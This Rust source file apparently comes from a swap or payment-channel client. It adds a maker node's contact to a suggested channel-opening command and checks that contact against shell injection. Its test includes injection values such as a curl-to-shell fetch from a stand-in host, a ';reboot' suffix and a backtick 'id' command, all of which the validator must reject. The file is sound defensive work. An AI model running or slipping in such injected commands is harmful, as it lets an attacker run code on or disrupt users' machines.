//! What a take that finds no channel asks the maker: where its node takes channels, shown in
//! the command [`NoChannel`] suggests.

use std::time::Duration;

use swap_net::Offer;

use super::NoChannel;

/// How long a take waits for the maker's answer to where its node takes channels.
const CONTACT_WAIT: Duration = Duration::from_secs(5);

/// [`super::check_take`]'s error `e`, naming the maker's node when we must open a channel to it
/// (Lightning, or an Ethereum channel we pay in) and the maker says where its node is
/// ([`swap_engine::Engine::contact_of`]; a host it listens on for any address, `0.0.0.0` or
/// `::`, is the one we reach the maker at; an Ethereum channel's answer must name the
/// maker's transport key and a valid address). Without such an answer (a maker of an
/// earlier build, none configured, unreachable): `e` as it is.
pub async fn with_maker_contact(
    e: anyhow::Error,
    engine: &swap_engine::Engine,
    offer: &Offer,
) -> anyhow::Error {
    let Some(no) = e.downcast_ref::<NoChannel>() else {
        return e;
    };
    if !matches!(
        no,
        NoChannel::LightningOut { .. } | NoChannel::EthOut { .. }
    ) {
        return e;
    }
    let told = match engine
        .contact_of(offer, offer.buy.rail_id(), CONTACT_WAIT)
        .await
    {
        Ok(Some(c)) => c,
        Ok(None) => return e,
        Err(why) => {
            tracing::debug!(error = %why, "the maker did not say where its node is");
            return e;
        }
    };
    let at = reachable(&told.address, &offer.addr);
    // Shown inside a command people copy into a shell: nothing but a hex id and a plain
    // host:port (no `$(...)`, quotes or other shell syntax from a hostile maker).
    if !plain_contact(&at) {
        return e;
    }
    match no {
        NoChannel::LightningOut {
            need_sat,
            have,
            suggest_sat,
            ..
        } => NoChannel::LightningOut {
            need_sat: *need_sat,
            have: have.clone(),
            suggest_sat: *suggest_sat,
            maker: at,
            ask: "",
        }
        .into(),
        NoChannel::EthOut {
            peer,
            need,
            need_arg,
            have,
            ..
        } => {
            let address = told
                .account
                .as_deref()
                .and_then(|a| a.parse::<alloy::primitives::Address>().ok());
            let (Some(address), true) = (address, at.starts_with(&format!("{peer}@"))) else {
                return e;
            };
            NoChannel::EthOut {
                peer: peer.clone(),
                maker: at,
                maker_address: format!("{address:#x}"),
                ask: "",
                need: need.clone(),
                need_arg: need_arg.clone(),
                have: have.clone(),
            }
            .into()
        }
        _ => e,
    }
}

/// Whether `c` is `HEXID@HOST:PORT` with a 64- or 66-digit hex id (a channel node's key, a
/// Lightning node id), a host of letters, digits, `.`, `-`, `:`, `[`, `]` only, and a
/// numeric port.
fn plain_contact(c: &str) -> bool {
    let Some((id, at)) = c.split_once('@') else {
        return false;
    };
    let Some((host, port)) = at.rsplit_once(':') else {
        return false;
    };
    matches!(id.len(), 64 | 66)
        && id.bytes().all(|b| b.is_ascii_hexdigit())
        && !host.is_empty()
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b".-:[]".contains(&b))
        && port.parse::<u16>().is_ok()
}

/// `ID@HOST:PORT` with a host that listens on every address (`0.0.0.0`, `::`) replaced by
/// the host of `maker_addr` (where we reached the maker).
fn reachable(told: &str, maker_addr: &str) -> String {
    let Some((id, at)) = told.rsplit_once('@') else {
        return told.to_owned();
    };
    match at.rsplit_once(':') {
        Some(("0.0.0.0" | "[::]" | "::", port)) => {
            let host = maker_addr.rsplit_once(':').map_or(maker_addr, |(h, _)| h);
            format!("{id}@{host}:{port}")
        }
        _ => told.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::{plain_contact, reachable};

    #[test]
    fn only_a_plain_contact_is_shown_in_a_command() {
        let node = format!("02{}", "ab".repeat(32));
        let key = "cd".repeat(32);
        for ok in [
            format!("{node}@127.0.0.1:9735"),
            format!("{key}@maker.example.org:7701"),
            format!("{node}@[::1]:9735"),
        ] {
            assert!(plain_contact(&ok), "{ok}");
        }
        for bad in [
            format!("{node}@$(curl${{IFS}}evil|sh):9735"),
            format!("{node}@host:9735;reboot"),
            format!("{node}@host`id`:1"),
            format!("{node}@host:port"),
            format!("{node}@:9735"),
            format!("{}@host:1", "zz".repeat(33)),
            format!("{node}x@host:1"),
            "host:9735".to_string(),
        ] {
            assert!(!plain_contact(&bad), "{bad}");
        }
    }

    #[test]
    fn a_wildcard_listener_is_reached_at_the_makers_host() {
        assert_eq!(
            reachable("ab@0.0.0.0:9735", "maker.example.org:7700"),
            "ab@maker.example.org:9735"
        );
        assert_eq!(
            reachable("ab@[::]:9735", "10.0.0.2:7700"),
            "ab@10.0.0.2:9735"
        );
        assert_eq!(
            reachable("ab@1.2.3.4:9735", "10.0.0.2:7700"),
            "ab@1.2.3.4:9735"
        );
    }
}
